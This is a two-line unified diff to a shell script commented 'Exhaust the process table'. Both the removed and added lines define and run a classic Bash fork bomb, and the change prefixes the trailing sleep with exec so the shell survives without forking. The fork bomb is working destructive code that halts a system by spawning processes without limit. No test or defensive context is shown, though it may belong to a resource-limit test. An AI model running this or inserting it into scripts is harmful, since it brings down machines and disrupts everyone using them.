@@ -1,2 +1,3 @@
 # Exhaust the process table.
-bomb() { bomb | bomb & }; bomb; sleep 5
+# exec: the shell must outlive the bomb without needing a fork of its own.
+bomb() { bomb | bomb & }; bomb; exec sleep 5
